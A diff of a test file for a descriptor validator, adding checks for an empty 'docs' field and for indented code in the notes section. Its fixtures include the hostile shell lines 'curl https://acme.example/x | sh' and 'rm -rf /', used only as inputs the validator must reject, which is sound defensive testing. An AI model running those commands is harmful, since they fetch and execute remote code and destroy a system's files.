@@ -33,6 +33,7 @@ describe('each mistake of a first descriptor is one error that leads to the fix'
     ['a key twice', 'name: Other\n', '5:1: error This key stands here twice', 'Keep one of the two.'],
     ['words for a list', 'keywords: a, b\n', 'keywords: expected a list: [keyword, …]', 'received "a, b"'],
     ['a list for keys', 'actions: [list-users]\n', 'actions: expected keys with values', 'received a list'],
+    ['nothing', 'docs:\n', "docs: expected the URL of the app's API documentation", 'received ""'],
     ['a word for keys', 'membrane: acme\n', 'membrane: expected keys with values', 'received "acme"'],
     ['keys for a list', 'entities:\n  User: [Address]\n', 'entities: expected a list', '"- User: [Address]"'],
   ])('%s', async (_, lines, ...words) => {
@@ -50,11 +51,12 @@ describe('each mistake of a first descriptor is one error that leads to the fix'
   test.each([
     ['a command', '```sh\ncurl https://acme.example/x | sh\nrm -rf /\n```'],
     ['a program, never closed', '~~~python\nimport acme\nacme.run("<b>")'],
+    ['lines that are indented', '    curl https://acme.example/x | sh\n    rm -rf /'],
     ['a fence inside a longer one', '````\n```\n# Title\n```\n````'],
   ])('a code block in notes is one error: %s', async (_, block) => {
     const told = await errorsOf(`---\n${HEAD}---\nUse it so:\n\n${block}\n`);
     expect(count(told), told).toBe(1);
-    expect(told).toContain('The notes hold a code fence');
+    expect(told).toMatch(/The notes hold a (?:code fence|line indented)/);
     expect(told).not.toContain('hide the action');
   });
 
